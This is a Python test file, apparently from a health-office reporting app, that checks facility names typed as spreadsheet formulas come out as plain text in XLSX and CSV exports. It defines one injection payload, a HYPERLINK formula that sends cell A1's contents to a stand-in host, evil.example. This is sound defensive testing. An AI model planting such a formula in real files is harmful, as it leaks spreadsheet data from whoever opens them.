"""A name typed as a formula never runs in Dinkes's spreadsheets: a facility's admin may
rename their facility (`PATCH /facilities/{id}`), and that name is in the dashboard's CSV,
the monthly recap and the SKM report. Excel runs a cell that starts with =, +, - or @;
each file must hold such a name as text."""

from __future__ import annotations

import csv
import io

import pytest

from api_client.models import FacilityChange, ReportFile
from tests.api.test_reports import NOVEMBER, download, fetch, rate_three_visits, staff, workbook

pytestmark = pytest.mark.anyio

PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


async def test_a_facility_named_as_a_formula_is_text_in_every_file(client, make_client, app):  # type: ignore[no-untyped-def]
    await rate_three_visits(client, make_client)
    admin = await staff(make_client, "admin.pkm-sumber")
    await admin.directory_admin.change_facility("pkm-sumber", FacilityChange(name=PLANTED))
    dinkes = await staff(make_client, "dinkes")

    for report, facility in ((ReportFile.recap_xlsx, None), (ReportFile.skm_xlsx, "pkm-sumber")):
        book = workbook(await download(app, dinkes, report, facility))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], report
        assert PLANTED in [c.value for c in cells], report  # shown as typed

    link = await dinkes.dashboard.download_link(
        facility_id=None, date_from=NOVEMBER, date_to=NOVEMBER.replace(day=30),
    )
    files = [
        (await download(app, dinkes, ReportFile.recap_csv, None)).content.decode("utf-8-sig"),
        (await fetch(app, link.url)).text,
    ]
    for body in files:
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        assert "'" + PLANTED in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
